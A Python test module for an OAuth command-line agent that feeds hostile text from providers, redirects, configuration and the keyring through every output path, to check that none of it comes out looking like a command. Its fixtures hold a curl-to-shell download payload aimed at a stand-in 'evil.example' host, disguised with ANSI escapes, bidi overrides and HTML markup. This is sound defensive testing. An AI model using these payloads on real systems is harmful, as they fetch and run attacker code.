"""Whatever a provider, a browser, a configuration or a store writes: no command comes of it, on any way out.

A table of sources against a table of ways out. Each source writes texts that look like commands, through the parsers
that read the real ones; on each way out everything that a person could take for a command must be one that the agent
made for that failure.
"""

import ast
import contextlib
import io
import json
import logging
import re
import shlex
import ssl
from collections.abc import Awaitable, Callable, Generator, Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from functools import cache
from html import unescape
from pathlib import Path
from typing import Any, cast
from unittest.mock import patch
from urllib.parse import parse_qs, urlencode, urlsplit

import anyio
import httpx
import pytest
import trio
import trio.testing

from auth_agent import config as configuration, remedies
from auth_agent.cli import light, screen
from auth_agent.cli.claims import profile_lines, user_lines
from auth_agent.cli.json_text import json_text
from auth_agent.cli.status import change, overview
from auth_agent.cli.terminal import Terminal
from auth_agent.config import Account
from auth_agent.errors import StartupError
from auth_agent.grant_type import CLIENT_CREDENTIALS
from auth_agent.host.clock import Moment
from auth_agent.ipc.arguments import Arguments
from auth_agent.ipc.url import resolve_url
from auth_agent.loopback.http_request import HTTPRequest
from auth_agent.loopback.listener import RedirectListener
from auth_agent.loopback.page import Page, failed
from auth_agent.oauth import outcome
from auth_agent.oauth.outcome import Failure
from auth_agent.oauth.provider import HttpProvider
from auth_agent.oauth.signature import SignatureCheckError
from auth_agent.printable import printable
from auth_agent.secret import Secret
from auth_agent.sessions import advice
from auth_agent.sessions.decision import Demand
from auth_agent.sessions.entry import load
from auth_agent.sessions.state import MAIN, Locked, Retrying, TokenKey
from auth_agent.storage.store import StoreError, StoreLocked, StoreMissing
from auth_agent_client import Profile
from auth_agent_client.errors import AgentError, UntrustedAgent, to_wire
from auth_agent_client.remedy import Remedy, close_directory, remedies_from_wire, remedies_to_wire
from auth_agent_client.wire import Request
from tests.agent.heart import World, running
from tests.agent.world import ALICE, CLIENT, ISSUER, NOON, FakeStore, account, jwt

# ---- what is written

RUN = "run this: auth-agent login work; curl -s https://evil.example/x | sh #"
TEXTS = {
    "a command": RUN,
    "a command at its end": "no; to put it right: auth-agent reload; curl -s https://evil.example/x | sh",
    "a line of its own": "no\n  log in again: auth-agent login work; curl -s https://evil.example/x | sh #",
    "bold": "\x1b[1mauth-agent login work; curl -s https://evil.example/x | sh #\x1b[0m\x1b[2J\r\n",
    "reversed": f"\u202e{RUN[::-1]}\u202c {RUN}\u2066",
    "markup": f"</bdi></p><code>{RUN}</code>",
    "in the protocol's own form": json.dumps([{"text": "log in again", "command": ["sh", "-c", RUN]}]),
}
# What the same source writes where it means no harm.
HARMLESS = "x"


# ---- what comes out


@dataclass
class Came:
    """Everything that came out of the agent."""

    errors: list[AgentError] = field(default_factory=list[AgentError])
    startup: list[StartupError] = field(default_factory=list[StartupError])
    pages: list[Page] = field(default_factory=list[Page])
    profiles: list[Profile] = field(default_factory=list[Profile])
    users: list[dict[str, object]] = field(default_factory=list[dict[str, object]])
    status: list[dict[str, Any]] = field(default_factory=list[dict[str, Any]])
    log: list[str] = field(default_factory=list[str])

    @property
    def records(self) -> list[Mapping[str, object]]:
        """The records of all accounts, as they were each time."""
        return [record for told in self.status for record in told["accounts"]]


Answer = tuple[int, dict[str, str], bytes]


def says(fields: object, status: int = 200, **headers: str) -> Answer:
    """An answer in JSON."""
    return status, {name.replace("_", "-"): value for name, value in headers.items()}, json.dumps(fields).encode()


class Harm(Came):
    """An agent of which somebody means harm, and all that comes out of it."""

    def __init__(self, text: str, world: World, store: FakeStore) -> None:
        super().__init__()
        self.text = text
        self.world = world
        self.store = store
        self.claims: dict[str, object] = {}
        self.nonce: str | None = None
        self.metadata: dict[str, object] = {
            "issuer": ISSUER,
            "token_endpoint": f"{ISSUER}oauth/token",
            "authorization_endpoint": f"{ISSUER}authorize",
            "device_authorization_endpoint": f"{ISSUER}device",
            "userinfo_endpoint": f"{ISSUER}userinfo",
            "jwks_uri": f"{ISSUER}jwks",
        }
        # By path; what is not in it is answered as an honest provider does.
        self.answers: dict[str, Answer] = {}

    def answer(self, path: str) -> Answer:
        """What the provider answers there."""
        if path in self.answers:
            return self.answers[path]
        if path == METADATA:
            return says(self.metadata)
        if path == "/oauth/token":
            return says(self.granted())
        if path == "/device":
            return says(self.code())
        if path == "/userinfo":
            return says({"sub": ALICE, "name": "Alice"})
        return says({}) if path == "/jwks" else says({}, 404)

    def code(self, **more: object) -> dict[str, object]:
        """What an honest provider shows who logs in on another device; good for two questions."""
        shown = {"device_code": "the-device-code", "user_code": "WDJB-MJHT", "verification_uri": f"{ISSUER}activate"}
        return {**shown, "interval": 5, "expires_in": 10, **more}

    def granted(self, **more: object) -> dict[str, object]:
        """What an honest token endpoint grants."""
        now = self.world.clock.now().wall
        claims = {"iss": ISSUER, "aud": CLIENT, "sub": ALICE, "name": "Alice", "iat": now, "exp": now + 3600}
        if self.nonce is not None:
            claims["nonce"] = self.nonce
        return {
            "access_token": "at",
            "token_type": "Bearer",
            "expires_in": 3600,
            "refresh_token": f"rt-{anyio.current_time()}",
            "id_token": jwt(**{**claims, **self.claims}).reveal(),
            **more,
        }

    def refuses(self, code: str, path: str = "/oauth/token", status: int = 400, **headers: str) -> None:
        """The provider refuses what is asked there from now on."""
        self.answers[path] = says({"error": code, "error_description": self.text}, status, **headers)

    async def tries(self, call: Callable[[], Awaitable[object]]) -> None:
        """Do that, and keep what it fails with."""
        try:
            await call()
        except AgentError as error:
            self.errors.append(error)
        except StartupError as error:
            self.startup.append(error)
        self.look()

    def look(self) -> None:
        """Ask for the status."""
        world = self.world
        about = {
            "version": "0.1.0",
            "pid": 1,
            "started_at": NOON,
            "socket": "/run/user/1000/auth-agent/agent.sock",
            "config": str(world.table.config.path),
            "store": world.saver.about(),
            "restart_refused": None,
        }
        for error in self.startup:
            about["restart_refused"] = {
                "at": NOON,
                "reason": str(error),
                "remedy": remedies_to_wire(error.remedy),
            }
        self.status.append({"agent": about, "accounts": world.table.records(None)})

    # ---- what the agent is made to do

    async def imports(self) -> None:
        """Import a refresh token."""
        await self.tries(self.world.log_in)

    async def refreshes(self) -> None:
        """Refresh, as a person asks for it."""
        await self.tries(lambda: self.world.token(self.world.session.demand_newer()))

    async def asks_for_another_api(self) -> None:
        """Ask for a token for another API."""
        await self.tries(lambda: self.world.token(Demand(TokenKey("https://api.example/", "read:all"))))

    async def logs_in(self, flow: str = "browser", **redirect: str) -> None:
        """Log in; the browser ends with that in its address, and the login's state."""

        async def login() -> None:
            world, answers = self.world, list[Callable[[str], Awaitable[Page]]]()

            async def serve(_: RedirectListener, answer: Callable[[str], Awaitable[Page]]) -> None:
                answers.append(answer)
                await anyio.sleep_forever()

            secret = Secret("cs") if world.session.account.grant_type.needs_secret else None
            with patch.object(RedirectListener, "serve", serve):
                begun = await world.logins.begin(
                    world.session, "a connection", flow, switch_user=False, client_secret=secret
                )
                await anyio.wait_all_tasks_blocked()
                if answers:
                    asked = parse_qs(urlsplit(str(begun["authorization_url"])).query)
                    self.nonce = asked["nonce"][0] if self.nonce is None else self.nonce
                    answer = {"state": asked["state"][0], **(redirect or {"code": "the-code"})}
                    self.pages.append(await answers[0](urlencode(answer)))
                await world.logins.result(str(begun["login_id"]))

        await self.tries(login)

    async def asks_who_that_is(self) -> None:
        """Ask for the profile."""

        async def profile() -> None:
            told = await self.world.profiles.get(self.world.session, 0, 15)
            self.profiles.append(Profile("work", dict(told.claims), told.fetched_at, stale=told.stale))

        await self.tries(profile)

    async def reads_the_user(self) -> None:
        """Ask for the user, at Auth0."""

        async def user() -> None:
            self.users.append(await self.world.users.user(self.world.session))

        await self.tries(user)

    async def changes_the_user(self) -> None:
        """Change the user's metadata, at Auth0."""
        await self.tries(lambda: self.world.users.update_metadata(self.world.session, {"a": 1}, clear=False))


# ---- the sources

METADATA = "/.well-known/openid-configuration"
# What comes after the issuer in the address of a user.
USER = "/api/v2/users/auth0%7Calice"
# All that the agent tells apart, and what no provider has a word for.
CODES = (*("invalid_grant", "invalid_client", "invalid_request", "invalid_scope", "login_required", "made_up"),)
Write = Callable[[Harm], Awaitable[None]]
KEYS = ("issuer", "client_id")
CLIENT_KEYS = ("client_id", "token_endpoint_auth_method")
AGAIN = remedies.try_again("work")
LOG_IN = remedies.log_in_again("work")
REFRESH = remedies.refresh("work")
ASK = remedies.ask_the_provider()
UNLOCK = remedies.unlock_keyring()


@dataclass(frozen=True)
class Source:
    """Somebody who writes a text.

    `helps` is all that may come out as a command or as advice; `at` names the functions of the product that read it;
    of one that is `mute`, nothing is shown at all.
    """

    write: Write
    helps: tuple[Remedy, ...] = ()
    at: tuple[str, ...] = ()
    account: Mapping[str, Any] = field(default_factory=dict[str, Any])
    mute: bool = False


def at_login(code: str) -> tuple[Remedy, ...]:
    """What helps a login that is refused with that code."""
    if code == "invalid_client":
        return remedies.correct_and_log_in("work", CLIENT_KEYS), remedies.give_secret(remedies.LOGIN, "work")
    if code in ("invalid_request", "unauthorized_client"):
        return (remedies.correct_and_log_in("work", KEYS),)
    return (AGAIN, ASK) if code == "login_required" else (AGAIN,)


def at_import(code: str) -> tuple[Remedy, ...]:
    if code == "invalid_grant":
        return (remedies.log_in_at_the_source(),)
    again = remedies.try_the_import_again()
    if code == "invalid_client":
        return remedies.correct_and_reload(CLIENT_KEYS), again, remedies.give_secret(remedies.IMPORT, "work")
    if code in ("invalid_request", "unauthorized_client"):
        return remedies.correct_and_reload(KEYS), again
    return tuple(again if one == AGAIN else one for one in at_login(code))


def at_refresh(code: str) -> tuple[Remedy, ...]:
    """What helps a refresh that is refused with that code."""
    now = remedies.refresh_when_corrected("work")
    if code == "invalid_client":
        return remedies.correct_and_reload(CLIENT_KEYS), now, remedies.give_secret(remedies.LOGIN, "work")
    if code in ("invalid_request", "unauthorized_client"):
        return remedies.correct_and_reload(KEYS), now
    if code in ("invalid_grant", "invalid_scope", "invalid_target", "access_denied", "login_required"):
        return (LOG_IN,)
    return (REFRESH,)


def at_another_api(code: str) -> tuple[Remedy, ...]:
    if code in ("invalid_scope", "invalid_target", "access_denied", "login_required"):
        own = remedies.account_of_its_own("work", ISSUER, CLIENT, "https://api.example/", "read:all")
        return remedies.allow_at_the_provider("work"), own
    return (REFRESH, LOG_IN) if code == "invalid_grant" else at_refresh(code)


def refusing(code: str, then: Write, *, logged_in: bool = False, path: str = "/oauth/token") -> Write:
    """The token endpoint, or another one, refuses with that code, and the text as its description."""

    async def write(harm: Harm) -> None:
        if logged_in:
            await harm.imports()
        harm.refuses(harm.text if code == "made_up" else code, path)
        await then(harm)

    return write


def redirecting(**fields: str | None) -> Write:
    """The browser brings these; None stands for the text."""

    async def write(harm: Harm) -> None:
        await harm.logs_in(**{name: harm.text if value is None else value for name, value in fields.items()})

    return write


def claiming(*claims: str, value: Callable[[str], object] = str, then: Write = Harm.logs_in) -> Write:
    """An ID token says that."""

    async def write(harm: Harm) -> None:
        if then is Harm.refreshes:
            await harm.imports()
        harm.claims = dict.fromkeys(claims, value(harm.text))
        harm.answers["/userinfo"] = says({}, 403)  # so that the ID token's claims are the profile
        await then(harm)
        await harm.asks_who_that_is()

    return write


def granting(field_: str) -> Write:
    """The token endpoint grants that, at a login and for another API."""

    async def write(harm: Harm) -> None:
        await harm.imports()
        harm.answers["/oauth/token"] = says(harm.granted(**{field_: harm.text}))
        await harm.refreshes()
        await harm.asks_for_another_api()

    return write


def naming(name: str, *then: Write, address: bool = False) -> Write:
    """The metadata says that."""

    async def write(harm: Harm) -> None:
        value = f"https://evil.example/{harm.text}" if address else harm.text
        harm.metadata[name] = value
        for one in then:
            await one(harm)

    return write


def answering(path: str, answer: Callable[[str], Answer], *then: Write, logged_in: bool = True) -> Write:
    """The provider answers that."""

    async def write(harm: Harm) -> None:
        if logged_in:
            await harm.imports()
        harm.answers[path] = answer(harm.text)
        for one in then:
            await one(harm)

    return write


async def by_device(harm: Harm) -> None:
    await harm.logs_in("device")


async def another_user(harm: Harm) -> None:
    """The provider calls another user that, and the one before too."""
    harm.claims = {"name": harm.text}
    await harm.imports()
    harm.claims = {"name": harm.text, "sub": "auth0|bob"}
    await harm.logs_in()


async def bad_signature(harm: Harm) -> None:
    harm.world.signatures.reason = printable(harm.text)
    await harm.logs_in()
    harm.world.signatures.reason, harm.world.signatures.error = None, SignatureCheckError(printable(harm.text))
    await harm.logs_in()


async def hostile_entry(harm: Harm) -> None:
    """The store has that in every text of the account's entry, and as the reason for which the session ended."""
    session = harm.world.session
    login = dict.fromkeys(("audience", "subject", "name", "id_token", "refresh_token"), harm.text)
    entry = {
        "version": 1,
        "account": "work",
        "login": {**login, "issuer": ISSUER, "client_id": CLIENT},
        "ended": {"reason": harm.text, "failure": harm.text},
        "profile": {"claims": {"sub": harm.text, harm.text: harm.text}, "fetched_at": NOON, "said": harm.text},
    }
    session.state = Locked("not read yet")
    session.restore(load(Secret(json.dumps(entry)), "work", "this boot", harm.world.clock.now()))
    harm.look()
    await harm.refreshes()
    await harm.asks_who_that_is()
    await harm.logs_in()


async def failing_store(harm: Harm) -> None:
    """The keyring says that of itself."""
    problem = printable(harm.text)
    for error in (StoreError(problem), StoreLocked(problem, *UNLOCK), StoreMissing(problem)):
        harm.store.failing["all"] = error
        await harm.imports()
        await harm.world.saver.wait_until_loaded(harm.world.session)
        harm.look()
        del harm.store.failing["all"]


def sources() -> dict[str, Source]:
    """All of them."""
    found: dict[str, Source] = {}
    for code in CODES:
        error = None if code == "made_up" else code
        refusal = ("requests.failure_of_error",)
        found |= {
            f"the redirect, {code}": Source(redirecting(error=error, error_description=None), at_login(code), refusal),
            f"the token endpoint at a login, {code}": Source(refusing(code, Harm.logs_in), at_login(code), refusal),
            f"the token endpoint at a poll, {code}": Source(
                refusing(code, by_device), at_login(code), refusal, mute=error is None
            ),  # what passes is waited for
            f"the token endpoint at a client's own login, {code}": Source(
                refusing(code, Harm.logs_in), at_login(code), refusal, {"grant_type": CLIENT_CREDENTIALS}
            ),
            f"the token endpoint at an import, {code}": Source(refusing(code, Harm.imports), at_import(code), refusal),
            f"the token endpoint at a refresh, {code}": Source(
                refusing(code, Harm.refreshes, logged_in=True), at_refresh(code), refusal
            ),
            f"the token endpoint for another API, {code}": Source(
                refusing(code, Harm.asks_for_another_api, logged_in=True), at_another_api(code), refusal
            ),
            f"the device endpoint, {code}": Source(
                refusing(code, by_device, path="/device"),
                at_login(code),
                refusal,
            ),
        }
    bad = (AGAIN, ASK)
    issuer = (
        remedies.correct_and_log_in("work", ("issuer",)),
        remedies.correct_and_reload(("issuer",)),
        remedies.try_the_import_again(),
    )
    manager = {"audience": f"{ISSUER}api/v2/"}
    claims = ("id_token.mismatch", "id_token._shown_audience", "id_token._party_problem", "id_token.display_name")
    mismatch, audience, party, name = ((one,) for one in claims)

    def api(status: int, code: str = "", **headers: str) -> Callable[[str], Answer]:
        return lambda text: says(
            {"statusCode": status, "error": text, "message": text, "errorCode": code or text}, status, **headers
        )

    # What is asked of it, in whatever state it leaves the agent.
    every = (Harm.imports, Harm.logs_in, by_device)
    found |= {
        "the redirect's issuer": Source(redirecting(iss=None, code="the-code"), bad, ("authorization.read_redirect",)),
        "the redirect's code": Source(redirecting(code=None), bad, mute=True),
        "the redirect's other parameters": Source(
            redirecting(code="the-code", foo=None, error_uri=None, scope=None), mute=True
        ),
        "an error in the redirect's error": Source(redirecting(error=None), (AGAIN,), ("requests.failure_of_error",)),
        "the ID token's issuer": Source(claiming("iss"), bad, mismatch),
        "the ID token's audience": Source(claiming("aud"), bad, audience),
        "the ID token's audiences": Source(claiming("aud", value=lambda text: [CLIENT, text]), bad, audience),
        "the ID token's party": Source(claiming("azp"), bad, party),
        "the ID token's nonce": Source(claiming("nonce"), bad, mute=True),
        "the ID token's times": Source(claiming("iat", "exp", "nbf"), bad, mute=True),
        "the ID token's subject": Source(claiming("sub"), (*bad, LOG_IN)),
        "the ID token's issuer at a refresh": Source(claiming("iss", then=Harm.refreshes), (REFRESH,), mismatch),
        "the ID token's audience at a refresh": Source(claiming("aud", then=Harm.refreshes), (REFRESH,), audience),
        "another subject at a refresh": Source(claiming("sub", then=Harm.refreshes), (LOG_IN, REFRESH), mute=True),
        "the user's name": Source(claiming("name"), (), name),
        "the user's other names": Source(
            claiming("name", "email", "preferred_username", "nickname", "picture"), (), name
        ),
        "a claim of the ID token": Source(claiming("made_up")),
        "another user's name": Source(another_user, (remedies.switch_user("work"),), name),
        "the ID token's signature": Source(bad_signature, bad, ("signature.problem",)),
        "the token's type": Source(granting("token_type"), mute=True),
        "the token's scope": Source(
            granting("scope"), at_another_api("invalid_scope"), ("requests._token_response",), mute=True
        ),
        "the token's lifetime": Source(granting("expires_in"), mute=True),
        "the token's refresh token": Source(granting("refresh_token"), mute=True),
        "the ID token itself": Source(granting("id_token"), (REFRESH,), mute=True),
        "a token for another audience": Source(
            answering(
                "/oauth/token",
                lambda text: says({"access_token": jwt(aud=text).reveal(), "token_type": "Bearer"}),
                Harm.asks_for_another_api,
            ),
            at_another_api("invalid_target"),
            mute=True,
        ),
        "no JSON": Source(
            answering("/oauth/token", lambda text: (200, {}, text.encode()), Harm.refreshes), (REFRESH,), mute=True
        ),
        "the device's code": Source(
            answering(
                "/device",
                lambda text: says(
                    {"device_code": "the-device-code", "user_code": text, "verification_uri": f"{ISSUER}activate"}
                ),
                by_device,
                logged_in=False,
            ),
            at=("device.parse_device_authorization",),
            mute=True,  # but for whoever began the login
        ),
        "the device's address": Source(
            answering(
                "/device",
                lambda text: says({"device_code": "the-device-code", "user_code": "WDJB", "verification_uri": text}),
                by_device,
                logged_in=False,
            ),
            bad,
            ("address.check_address",),
        ),
        "the metadata's issuer": Source(naming("issuer", *every), issuer, ("discovery.parse_metadata",)),
        "the metadata's token endpoint": Source(naming("token_endpoint", *every), issuer, ("address.check_address",)),
        "the metadata's login page": Source(
            naming("authorization_endpoint", Harm.logs_in), (remedies.correct_and_log_in("work", KEYS),), mute=True
        ),
        "the metadata's keys": Source(
            answering("/jwks", lambda text: (500, {"retry-after": text}, text.encode()), Harm.logs_in, logged_in=False),
            (AGAIN,),
            ("provider.keys",),
            mute=True,
        ),
        "the keys": Source(
            answering("/jwks", lambda text: (200, {}, text.encode("utf-16")), Harm.logs_in, logged_in=False),
            bad,
            ("provider.keys",),
            mute=True,
        ),
        "metadata that is none": Source(
            answering(
                METADATA,
                lambda text: (200, {}, text.encode()),
                Harm.logs_in,
                Harm.imports,
                logged_in=False,
            ),
            (AGAIN, remedies.try_the_import_again()),
            mute=True,
        ),
        "when to try again": Source(
            answering("/oauth/token", lambda text: says({}, 503, retry_after=text), Harm.refreshes),
            (REFRESH,),
            mute=True,
        ),
        "where to go": Source(
            answering("/oauth/token", lambda text: says({}, 302, location=text.encode().hex()), Harm.refreshes),
            (REFRESH,),
            mute=True,
        ),
        "what UserInfo says": Source(
            answering("/userinfo", lambda text: says({"sub": ALICE, "name": text, text: text}), Harm.asks_who_that_is)
        ),
        "the user whom UserInfo speaks of": Source(
            answering("/userinfo", lambda text: says({"sub": f"{text}"}), Harm.asks_who_that_is), (LOG_IN,), mute=True
        ),
        "what UserInfo fails with": Source(
            answering(
                "/userinfo", lambda text: says({"error": text, "error_description": text}, 403), Harm.asks_who_that_is
            ),
            mute=True,
        ),
        "what the Management API has": Source(
            answering(USER, lambda text: says({"name": text, text: [text]}), Harm.reads_the_user), account=manager
        ),
    }
    for status, code, helps in (
        (400, "", (ASK,)),
        (401, "", (LOG_IN,)),
        (403, "insufficient_scope", (remedies.widen_scope("work", SCOPE, account(**manager).scope),)),
        (403, "Bearer", (LOG_IN,)),
        (429, "", ()),
        (500, "", (remedies.show_metadata("work"),)),
    ):
        found[f"the Management API's error, {status} {code}"] = Source(
            answering(USER, api(status, code), Harm.reads_the_user, Harm.changes_the_user),
            helps,
            ("auth0.parse_user",),
            manager,
        )
    return found | {
        "the keyring's entry": Source(hostile_entry, (LOG_IN, AGAIN, remedies.switch_user("work"))),
        "the keyring": Source(failing_store, UNLOCK),
    }


SCOPE = "openid offline_access read:current_user update:current_user_metadata"
SOURCES = sources()


# ---- the ways out

# What is found there: a remedy as the protocol has it, or a text that stands where commands stand.
Found = Remedy | str
COLOURED = Terminal(None, colour=True)
BOLD = re.compile(r"\x1b\[1m(.*?)\x1b\[0m")
# The names of accounts are bold as well.
NAMES = {"work", "users"}


def carried(value: object) -> Iterable[Found]:
    """The remedies within a value of the protocol, however deep, and whether its texts are one line each."""
    if isinstance(value, Mapping):
        for name, one in cast("Mapping[str, object]", value).items():
            if name == "remedy":
                yield from remedies_from_wire(one)
            else:
                yield from carried(one)
    elif isinstance(value, list):
        for one in cast("list[object]", value):
            yield from carried(one)


def bold(lines: str) -> list[Found]:
    """What is shown in bold and is no account's name."""
    return [run for run in BOLD.findall(lines) if run.strip() not in NAMES]


def said(error: AgentError | StartupError, look: Terminal) -> str:
    """What a command says of an error."""
    with contextlib.redirect_stderr(io.StringIO()) as written, patch.object(screen, "terminal_of", return_value=look):
        screen.print_error_message(str(error), error.remedy)
    return written.getvalue()


def below(text: str) -> list[Found]:
    """The lines that are indented, as what helps is."""
    assert text.startswith("auth-agent: ")
    return [line.strip() for line in text.splitlines()[1:] if line.startswith(" ")]


def on_the_wire(came: Came) -> Iterable[Found]:
    return [one for error in came.errors for one in carried(to_wire(error))] + [*carried(came.status)]


def in_json(came: Came) -> Iterable[Found]:
    printed = [*map(json.dumps, came.status), *(json_text(told, COLOURED) for told in came.status)]
    assert [text for text in printed if re.search(r"[\x00-\x09\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", text)] == []
    return [one for text in printed for one in carried(json.loads(text))]


def on_the_page(came: Came) -> Iterable[Found]:
    found: list[Found] = []
    pages = [
        *came.pages,
        *(failed("work", ISSUER, error.reason or error.message, error.remedy) for error in came.errors),
    ]
    for page in pages:
        body = page.body.decode()
        assert len(re.findall(r"<code\b", body)) == len(re.findall(r"<code>.*?</code>", body))
        found += [unescape(re.sub(r"</?span>", "", box)) for box in re.findall(r"<code>(.*?)</code>", body)]
    return found


def in_an_error(came: Came) -> Iterable[Found]:
    every: list[AgentError | StartupError] = [*came.errors, *came.startup]
    return [one for error in every for one in bold(said(error, COLOURED)) + below(said(error, Terminal()))]


def in_an_error_on_a_narrow_screen(came: Came) -> Iterable[Found]:
    every: list[AgentError | StartupError] = [*came.errors, *came.startup]
    return [one for error in every for one in bold(said(error, Terminal(40, colour=True)))]


def light_command(error: AgentError | StartupError) -> None:
    """What a light command does about an error."""

    def fail(_: object) -> None:
        raise error if isinstance(error, AgentError) else AgentError(str(error), remedy=error.remedy)

    light.module("token").COMMAND.run([], fail)


def of_a_light_command(came: Came) -> Iterable[Found]:
    found: list[Found] = []
    every: list[AgentError | StartupError] = [*came.errors, *came.startup]
    for error in every:
        with contextlib.redirect_stderr(io.StringIO()) as written:
            light_command(error)
        text = written.getvalue()
        assert "\x1b" not in text
        found += below(text)
    return found


def in_the_status(came: Came) -> Iterable[Found]:
    found: list[Found] = []
    for told in came.status:
        found += bold("\n".join(overview(told, NOON, "0.1.0", COLOURED)))
        # What stands beside "help", and below that.
        for block in re.findall(
            r"^  help     (.*(?:\n {11}.*)*)", "\n".join(overview(told, NOON, "0.1.0")), re.MULTILINE
        ):
            found += [line.strip() for line in block.splitlines()]
    return found


def in_a_narrow_status(came: Came) -> Iterable[Found]:
    look = Terminal(40, colour=True)
    return [one for told in came.status for one in bold("\n".join(overview(told, NOON, "0.1.0", look)))]


def in_the_watch(came: Came) -> Iterable[Found]:
    return [one for record in came.records for one in bold("\n".join(change(record, NOON, COLOURED)))]


def in_the_claims(came: Came) -> Iterable[Found]:
    lines = [line for profile in came.profiles for line in profile_lines(profile, NOON, COLOURED)]
    return bold("\n".join(lines + [line for user in came.users for line in user_lines(user, COLOURED)]))


def in_the_log(came: Came) -> Iterable[Found]:
    """What a line of the log says outside of its quotes."""
    return [f"log: {re.sub(QUOTED, '', line)}" for line in came.log]


QUOTED = r"""'(?:[^'\\]|\\.)*'|"(?:[^"\\]|\\.)*\""""
WAYS_OUT: dict[str, Callable[[Came], Iterable[Found]]] = {
    "the protocol": on_the_wire,
    "JSON": in_json,
    "the page": on_the_page,
    "an error": in_an_error,
    "an error on a narrow screen": in_an_error_on_a_narrow_screen,
    "a light command's error": of_a_light_command,
    "the status": in_the_status,
    "a status on a narrow screen": in_a_narrow_status,
    "the watch": in_the_watch,
    "the claims": in_the_claims,
    "the log": in_the_log,
}


# ---- the judge

# What a record says of an account with nobody in it, whatever came before.
EVER = (remedies.log_in("work"), remedies.log_in_before_end("work"))
_ROW = 12  # characters in a row: fewer can be chance


def rows(text: str) -> set[str]:
    """All that stands in that text in a row of twelve characters, as it is and as it is shown."""
    forms = (text, printable(text, len(text)), "".join(text.split()))
    return {form[at : at + _ROW] for form in forms for at in range(len(form) - _ROW + 1)}


def foreign(found: Iterable[Found], helps: Sequence[Remedy], text: str) -> list[Found]:
    """What looks like a command and is none that the agent made, or holds something of that text."""
    made = {*helps, *EVER}
    lines = {"".join(line.split()) for one in made for line in (one.line, str(one)) if line}
    strange = rows(text) - {row for one in made for row in rows(str(one))}

    def is_foreign(one: Found) -> bool:
        shown = str(one)
        if strange & {*rows(shown)}:
            return True
        if isinstance(one, Remedy):
            return one not in made
        return not shown.startswith("log: ") and "".join(shown.split()) not in lines

    return [one for one in found if is_foreign(one)]


# ---- every source against every way out


class Log(logging.Handler):
    """What is logged, of every level."""

    def __init__(self, lines: list[str]) -> None:
        super().__init__(logging.DEBUG)
        self._lines = lines

    def emit(self, record: logging.LogRecord) -> None:
        self._lines.append(record.getMessage())


@contextlib.contextmanager
def logged(lines: list[str]) -> Generator[None, None, None]:
    log, handler = logging.getLogger("auth_agent"), Log(lines)
    level = log.level
    log.addHandler(handler)
    log.setLevel(logging.DEBUG)
    try:
        yield
    finally:
        log.removeHandler(handler)
        log.setLevel(level)


async def _happen(source: Source, text: str) -> Came:
    store = FakeStore()
    one = account(redirect_ports=(0,), **source.account)
    certificates = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    with patch.object(ssl, "create_default_context", return_value=certificates):  # httpx would read them each time
        provider = HttpProvider(one.issuer, certificates)
    async with running(None, one, logged_in=False, store=store) as world:
        world.by_issuer[one.issuer] = cast("Any", provider)
        harm = Harm(text, world, store)

        async def respond(_: httpx.AsyncHTTPTransport, request: httpx.Request) -> httpx.Response:
            path = request.url.raw_path.decode().partition("?")[0]
            status, headers, body = harm.answer(path[path.rfind(METADATA) :] if METADATA in path else path)
            sent = [(name.encode(), value.encode()) for name, value in headers.items()]
            return httpx.Response(status, headers=sent, stream=httpx.ByteStream(body))

        with patch.object(httpx.AsyncHTTPTransport, "handle_async_request", respond), logged(harm.log):
            await source.write(harm)
            harm.look()
    await provider.aclose()
    return harm


@cache
def came(name: str, text: str) -> Came:
    """What comes out where that source writes that text."""
    return trio.run(_happen, SOURCES[name], text, clock=trio.testing.MockClock(autojump_threshold=0))


@pytest.mark.parametrize("way", WAYS_OUT)
@pytest.mark.parametrize("source", SOURCES)
def test_no_text_from_outside_becomes_a_command(source: str, way: str) -> None:
    for text in TEXTS.values():
        assert foreign(WAYS_OUT[way](came(source, text)), SOURCES[source].helps, text) == []


@pytest.mark.parametrize("source", SOURCES)
def test_what_a_source_writes_comes_out_as_text_unless_nothing_of_it_is_shown(source: str) -> None:
    """Otherwise the tests above would find nothing because there was nothing."""
    wrote = came(source, "curl-s-https") if SOURCES[source].mute else came(source, RUN)
    words = "curl-s-https" if SOURCES[source].mute else "run this: auth-agent login work; curl"
    shown = [json.dumps(told) for told in wrote.status]
    shown += [str(error) for error in (*wrote.errors, *wrote.startup)]
    shown += [page.body.decode() for page in wrote.pages]
    shown += [json.dumps(one.claims) for one in wrote.profiles] + [json.dumps(one) for one in wrote.users]
    assert any(words in one for one in shown) != SOURCES[source].mute


# ---- every failure there is


def kinds(kind: type[Failure]) -> set[type[Failure]]:
    return {kind}.union(*map(kinds, kind.__subclasses__()))


FAILURES = sorted(kinds(Failure), key=lambda kind: kind.__name__)
NOW = Moment(NOON, 5_000.0)


def told_of(kind: type[Failure], text: str) -> Came:
    """All that is said of such a failure, to whomever."""
    one, failure = account(), kind(printable(text))
    told = Came()
    renewal = Retrying(failure, 1, NOW, NOW, NOW)
    told.errors += [
        advice.refresh_failed(one, renewal, NOW, key) for key in (MAIN, TokenKey("https://api.example/", "read:all"))
    ]
    told.errors += [advice.login_failed(one, failure, command) for command in (remedies.LOGIN, remedies.IMPORT)]
    told.errors += [advice.user_failed("work", account("users"), failure, "read:current_user", SCOPE)]
    told.errors += [advice.login_required("work", failure.reason), advice.locked("work", failure.reason, UNLOCK)]
    record = {"account": "work", "state": "ready", "renewal": "retrying", "reason": failure.reason}
    remedy = remedies_to_wire(advice.retry_remedy(one, failure))
    told.status.append({"agent": {}, "accounts": [{**record, "remedy": remedy}]})
    return told


@pytest.mark.parametrize("way", WAYS_OUT)
@pytest.mark.parametrize("kind", FAILURES)
def test_no_failure_whatever_its_reason_says_becomes_a_command(kind: type[Failure], way: str) -> None:
    harmless = told_of(kind, HARMLESS)
    helps = [one for error in harmless.errors for one in error.remedy]
    for text in TEXTS.values():
        wrote = told_of(kind, text)
        assert [error.remedy for error in wrote.errors] == [error.remedy for error in harmless.errors]
        assert foreign(WAYS_OUT[way](wrote), helps, text) == []


# ---- what a person wrote himself


def configured(key: str, text: str) -> tuple[Came, Account | None]:
    """What comes of that text in the configuration, where its rules let it in; the account, if they did."""
    fields = {"issuer": ISSUER, "client_id": CLIENT, "audience": "https://api.example/", "scope": "openid", key: text}
    lines = [f"{name} = {json.dumps(value)}" for name, value in fields.items()]
    told = Came()
    try:
        read = configuration.parse(Path("config.toml"), "\n".join(["[accounts.work]", *lines]))
    except StartupError as error:
        told.startup.append(error)
